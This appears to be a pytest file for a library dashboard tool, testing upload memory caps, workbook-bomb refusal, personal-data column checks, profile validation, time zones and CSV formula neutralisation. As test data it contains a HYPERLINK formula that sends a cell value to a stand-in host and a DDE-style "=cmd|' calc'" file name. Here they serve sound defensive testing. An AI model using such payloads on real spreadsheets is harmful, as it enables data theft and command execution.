"""Never lose, never leak (issue 19): every parse of an upload in the capped child, workbooks checked from their own
structure, personal columns refused at every door, profiles checked, CSV formulas neutralised everywhere, one time
zone. Each test reproduces its finding on the code before the fix."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from microbranch import audit, profiles
from microbranch.contract import ContractError
from microbranch.ingest import import_file
from microbranch.ingest.isolated import preview_isolated
from microbranch.ingest.mapping import Mapping
from tests import workbooks
from tests.conftest import BRANCHES, snapshot, write

ROOT = Path(__file__).resolve().parent.parent
READERS = "读者证号,姓名,手机号,读者类型\n4401000001,张三,13800000001,学生\n4401000002,李四,13800000002,教师\n"
NAMES_AS_TYPE = Mapping("readers", {"读者证号": "reader_id", "姓名": "reader_type", "手机号": ""},
                        name="姓名当类型", headers=["读者证号", "姓名", "手机号", "读者类型"])


def cli(db: Path, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "microbranch", "--db", str(db), *args], cwd=ROOT,
                          env={**os.environ, **(env or {})}, capture_output=True, text=True, timeout=600, check=False)


def one_line(text: str) -> str:
    lines = [line for line in text.splitlines() if line.strip()]
    assert len(lines) == 1, text[:3000]
    return lines[0]


# --- 1, 2: workbooks and previews ---

def test_a_dense_cell_workbook_is_refused_with_one_sentence_by_the_preview_and_the_cli(db, tmp_path):
    data = workbooks.dense_cell()
    assert len(data) < 2000
    with pytest.raises(ContractError) as refused:
        preview_isolated(data, "dense.xlsx", lang="zh", db=db)
    assert "XFD1048576" in refused.value.text("zh") and "\n" not in refused.value.text("zh")
    out = cli(db, "import", str(_file(tmp_path, data)))
    assert out.returncode == 1
    assert "XFD1048576" in one_line(out.stderr)  # never calamine's abort and its backtrace


def test_a_workbook_within_the_limits_that_needs_more_than_the_cap_ends_its_child_alone_in_one_line(db, tmp_path):
    """A1 and GR1048576 are within the limits, yet a spreadsheet reader's grid of them needs 6.4 GiB: the child
    aborts; the command line says so in one line (the abort message and its backtrace go to the log only)."""
    data = workbooks.workbook([[("A1", "分馆编号")], [("GR1048576", "x")]])
    with pytest.raises(ContractError) as refused:
        preview_isolated(data, "wide.xlsx", db=db)
    assert refused.value.key in ("imp_preview_stopped", "imp_preview_memory")
    out = cli(db, "import", str(_file(tmp_path, data, "wide.xlsx")), env={"MICROBRANCH_IMPORT_ADDRESS_SPACE": "3GB"})
    assert out.returncode == 1
    line = one_line(out.stderr)
    assert "wide.xlsx" in line and "3.0 GiB" in line and "memory allocation" not in line


def _file(folder: Path, data: bytes, name: str = "dense.xlsx") -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("where", ["xl/worksheets/sheet1.xml", "xl/data/rows.xml", "elsewhere/r.xml"])
def test_a_3_million_row_sheet_with_prefixed_tags_is_refused_wherever_it_is_stored(db, where):
    data = workbooks.many_rows(3_000_000, prefix="x", sheet_path=where)
    assert len(data) < 1 << 20
    with pytest.raises(ContractError) as refused:
        preview_isolated(data, "rows.xlsx", lang="en", db=db)
    assert refused.value.key == "imp_limit_sheet_rows_over" and "1,048,576" in refused.value.text("en")


def test_a_workbook_with_its_dimension_beyond_the_limits_is_refused(db):
    data = workbooks.workbook(workbooks.table([["分馆编号"], ["M1"]]), dimension="A1:XFD1048576")
    with pytest.raises(ContractError) as refused:
        preview_isolated(data, "dim.xlsx", db=db)
    assert refused.value.key == "imp_limit_cell"


def test_a_workbook_within_the_limits_reads_from_a_relocated_prefixed_sheet_with_shared_strings(db):
    rows = [BRANCHES.splitlines()[0].split(","), *[line.split(",") for line in BRANCHES.splitlines()[1:]]]
    data = workbooks.workbook(workbooks.table(rows), sheet_path="xl/elsewhere/b.xml", prefix="x",
                              dimension="A1:K6", shared_strings=True)
    p = preview_isolated(data, "b.xlsx", db=db)
    assert p.importable and p.kind == "branches" and p.records == 5
    assert p.rows is not None and p.rows["branch_id"].to_list() == ["C1", "B1", "M1", "M2", "M3"]


def test_a_big_csv_with_one_wrong_row_is_previewed_from_its_head_in_the_child(db, tmp_path):
    """Issue: a 190 MB events CSV with one row of the wrong width took 4.4 GB in the server's preview. Here 100 MB
    of events: the caller's own peak memory stays under a bound, the preview says how many lines the file has."""
    header = "event_id,occurred_at,action,item_id,reader_id,from_reader_id,branch_id\n"
    row = "".join(f"{i},2024-04-01 09:00,checkout,I{i},R{i % 999},,C1\n" for i in range(100_000))
    body = (row * (100 * (1 << 20) // len(row) + 1)).encode()
    path = tmp_path / "events.csv"
    path.write_bytes(header.encode() + b"1,2024-04-01 09:00,checkout\n" + body)
    script = (
        "import resource, sys\n"
        "from pathlib import Path\n"
        "from microbranch.ingest.isolated import preview_isolated\n"
        "if __name__ == '__main__':\n"
        "    data = Path(sys.argv[1]).read_bytes()\n"
        "    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "    p = preview_isolated(data, 'events.csv', db=Path(sys.argv[2]))\n"
        "    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "    print(p.kind, p.records, p.problems.height, before // 1024, after // 1024, len(data) >> 20)\n"
    )
    out = subprocess.run([sys.executable, "-c", script, str(path), str(db)], cwd=ROOT, capture_output=True,
                         text=True, timeout=600, check=False)
    assert out.returncode == 0, out.stderr[-3000:]
    kind, records, problems, before, after, size = out.stdout.split()
    assert kind == "events" and int(problems) >= 1
    assert int(records) == body.count(b"\n") + 1
    # The caller holds the file and one copy on its way to the child: never a parse of it.
    assert int(after) - int(before) < int(size) + 150, out.stdout


# --- 5: personal data ---

def test_a_personal_column_mapped_onto_another_field_is_refused_by_the_mapping_and_the_import(db, tmp_path):
    with pytest.raises(ContractError) as refused:
        NAMES_AS_TYPE.header_map(["读者证号", "姓名", "手机号", "读者类型"])
    assert refused.value.key == "imp_reason_personal_field" and "姓名" in refused.value.text("zh")
    r = import_file(db, write(tmp_path, "readers.csv", READERS), mapping=NAMES_AS_TYPE)
    assert r.status == "refused" and "姓名" in r.message
    stored = snapshot(db).sql("select count(*) from readers").fetchall()
    assert stored == [(0,)]
    # Onto the reader id it is allowed: pseudonymised like any card number.
    ok = Mapping("readers", {"姓名": "reader_id", "读者证号": "", "手机号": ""})
    assert ok.header_map(["读者证号", "姓名", "手机号"]).mapping == {1: "reader_id"}


def test_a_profile_mapping_a_name_onto_reader_type_is_refused_on_import_and_skipped_when_stored(db, tmp_path):
    with pytest.raises(ContractError) as refused:
        profiles.import_text(db, NAMES_AS_TYPE.to_json())
    assert refused.value.key == "imp_reason_personal_field"
    with pytest.raises(ContractError) as refused:
        profiles.save(db, NAMES_AS_TYPE)
    assert refused.value.key == "imp_reason_personal_field"
    profile = write(tmp_path, "names.json", NAMES_AS_TYPE.to_json())
    out = cli(db, "profile", "import", str(profile))
    assert out.returncode == 1 and "姓名" in one_line(out.stderr)
    # Put in the folder by hand: skipped with a notice, never used.
    profiles.folder(db).mkdir(parents=True)
    (profiles.folder(db) / "names.json").write_text(NAMES_AS_TYPE.to_json(), encoding="utf-8")
    assert NAMES_AS_TYPE.name not in profiles.all_profiles(db)
    out = cli(db, "profile", "list")
    assert out.returncode == 0 and "names.json" in one_line(out.stderr)
    out = cli(db, "import", "--profile", NAMES_AS_TYPE.name, str(write(tmp_path, "readers.csv", READERS)))
    assert out.returncode == 1 and "Traceback" not in out.stderr
    names = [n for (n,) in snapshot(db).sql("select reader_type from readers").fetchall()] if (
        db.exists()) else []
    assert "张三" not in names


# --- 7: profiles ---

MALFORMED = [  # each named, so that only what is malformed in it can refuse it
    '{"name":"p","kind":"events","columns":[1,2]}',
    '{"name":"p","kind":"events","columns":{"a":1}}',
    '{"name":"p","kind":["events"],"columns":{}}',
    '{"name":"p","kind":"events","columns":{},"values":{"action":[1]}}',
    '{"name":"p","kind":"events","columns":{},"headers":"abc"}',
    '{"name":"p","kind":"events","columns":{},"date_order":"ymd"}',
    '{"name":"p","kind":"events","columns":{"x":"no_such_field"}}',
    '[1,2,3]',
    '{"kind":"events","columns":{},"name":["p"]}',
]


@pytest.mark.parametrize("text", MALFORMED)
def test_a_malformed_profile_is_refused_with_a_sentence(db, text):
    with pytest.raises(ContractError):
        profiles.import_text(db, text)
    assert not profiles.folder(db).exists() or not list(profiles.folder(db).glob("*.json"))


def test_a_damaged_stored_profile_is_skipped_with_a_notice_and_the_others_still_work(db, tmp_path):
    good = Mapping("branches", {h: h for h in BRANCHES.splitlines()[0].split(",")}, name="mine",
                   headers=BRANCHES.splitlines()[0].split(","))
    profiles.save(db, good)
    (profiles.folder(db) / "broken.json").write_text(MALFORMED[0], encoding="utf-8")
    (profiles.folder(db) / "half.json").write_text('{"kind": "ev', encoding="utf-8")
    assert "mine" in profiles.all_profiles(db)
    assert sorted(name for name, _ in profiles.damaged(db)) == ["broken.json", "half.json"]
    out = cli(db, "profile", "list")
    assert out.returncode == 0 and "mine\tbranches" in out.stdout and "Traceback" not in out.stderr
    assert len(out.stderr.strip().splitlines()) == 2
    assert profiles.for_headers(db, good.headers)[0].name == "mine"


# --- 8: CSV ---

EVENTS = ("event_id,occurred_at,action,item_id,reader_id,from_reader_id,branch_id\n"
          '1,=HYPERLINK("http://x.example/?"&A1),checkout,I1,R1,,C1\n'
          "2,＝1+1,checkout,I2,R2,,C1\n"
          "3,2024-04-01 09:00,＠SUM(1),I3,R3,,C1\n"
          "4,2024-04-01 09:00,-2+3,I4,R4,,C1\n")


def test_rejects_from_the_cli_neutralise_formulas_full_width_included(db, tmp_path):
    import_file(db, write(tmp_path, "b.csv", BRANCHES))
    r = import_file(db, write(tmp_path, "e.csv", EVENTS))
    assert r.rejected == 4
    out = cli(db, "rejects", "--lang", "en")
    assert out.returncode == 0, out.stderr
    values = [row["value"] for row in csv.DictReader(io.StringIO(out.stdout))]
    assert sorted(values) == sorted(["'" + v for v in ('=HYPERLINK("http://x.example/?"&A1)', "＝1+1", "＠SUM(1)",
                                                       "-2+3")])
    for row in csv.reader(io.StringIO(out.stdout)):
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r＝＋－＠", row


def test_the_audit_keeps_a_formula_or_huge_sign_in_name_cut_and_neutralised_and_its_csv_safe(db):
    audit.record("sign_in_failed", '=HYPERLINK("http://x.example","x")', address="127.0.0.1", db=db)
    audit.record("sign_in_failed", "＋" + "名" * 5_000_000, address="127.0.0.1\x1b[31m", db=db)
    trail = audit.trail(db)
    names = trail["user_name"].to_list()
    assert all(len(n) <= audit.MAX_USER for n in names)
    assert all(n.startswith("'") for n in names)
    assert "\x1b" not in "".join(trail["address"].to_list())
    out = cli(db, "audit", "--format", "csv")
    assert out.returncode == 0, out.stderr
    for row in list(csv.reader(io.StringIO(out.stdout)))[1:]:
        assert all(not cell or cell[0] not in "=+-@＝＋－＠" for cell in row), row


def test_query_csv_neutralises_a_file_name_that_is_a_formula(db, tmp_path):
    import_file(db, write(tmp_path, "=cmd|' calc'!A0.csv", BRANCHES))
    out = cli(db, "query", "imports", "--format", "csv")
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert rows[0]["file_name"] == "'=cmd|' calc'!A0.csv"


# --- 9: one time zone ---

def test_the_audit_records_times_in_the_dashboards_time_zone_whatever_the_servers_clock(db, monkeypatch):
    monkeypatch.setenv("TZ", "America/Los_Angeles")
    import time

    time.tzset()
    try:
        audit.record("sign_out", "wang", db=db)
        monkeypatch.setenv("MICROBRANCH_TIME_ZONE", "UTC")
        audit.record("sign_out", "li", db=db)
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()
    at = dict(zip(audit.trail(db)["user_name"], audit.trail(db)["at"], strict=True))
    shanghai = datetime.now(ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)
    utc = datetime.now(ZoneInfo("UTC")).replace(tzinfo=None)
    assert abs(at["wang"] - shanghai) < timedelta(minutes=10)
    assert abs(at["li"] - utc) < timedelta(minutes=10)


def test_imports_are_shown_in_the_configured_zone(db, tmp_path, monkeypatch):
    import_file(db, write(tmp_path, "b.csv", BRANCHES))
    out = cli(db, "query", "imports", "--format", "json", env={"MICROBRANCH_TIME_ZONE": "UTC"})
    shown = datetime.fromisoformat(json.loads(out.stdout)[0]["imported_at"])
    assert abs(shown - datetime.now(ZoneInfo("UTC")).replace(tzinfo=None)) < timedelta(minutes=10)
    out = cli(db, "query", "imports", "--format", "json")
    shown = datetime.fromisoformat(json.loads(out.stdout)[0]["imported_at"])
    assert abs(shown - datetime.now(ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)) < timedelta(minutes=10)
